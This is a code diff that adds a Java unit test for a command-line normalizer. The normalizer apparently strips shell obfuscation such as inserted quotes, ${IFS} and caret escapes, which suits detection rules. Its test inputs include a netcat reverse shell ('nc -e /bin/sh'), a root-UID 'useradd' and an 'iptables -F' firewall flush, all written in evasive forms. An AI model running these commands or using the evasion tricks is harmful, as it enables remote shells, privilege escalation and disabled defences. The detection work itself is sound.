@@ -13,6 +13,17 @@ class CommandLineNormalizerTest {
     }
 
     @Test
+    void theCasedReadingUndoesTheSameTricksAndKeepsTheCase() {
+        assertThat(CommandLineNormalizer.normalizeCased("u''seradd  -o -u 0 \"-G\" Sudo", false))
+                .isEqualTo("useradd -o -u 0 -G Sudo");
+        assertThat(CommandLineNormalizer.normalizeCased("T\\ar${IFS}-P x", false)).isEqualTo("Tar -P x");
+        assertThat(CommandLineNormalizer.normalizeCased("u''seradd -O", false).toLowerCase(java.util.Locale.ROOT))
+                .isEqualTo(CommandLineNormalizer.normalize("u''seradd -O", false));
+        // Windows options ignore case: the line reads as the folded one
+        assertThat(CommandLineNormalizer.normalizeCased("C^MD /C \"Dir\"", true)).isEqualTo("cmd /c dir");
+    }
+
+    @Test
     void aProgramLookedUpWhereItIsNamedReadsAsItsName() {
         assertThat(CommandLineNormalizer.normalize("$(which nc) -e /bin/sh h 1", false)).isEqualTo("nc -e /bin/sh h 1");
         assertThat(CommandLineNormalizer.normalize("`command -v IPtables` -F", false)).isEqualTo("iptables -f");
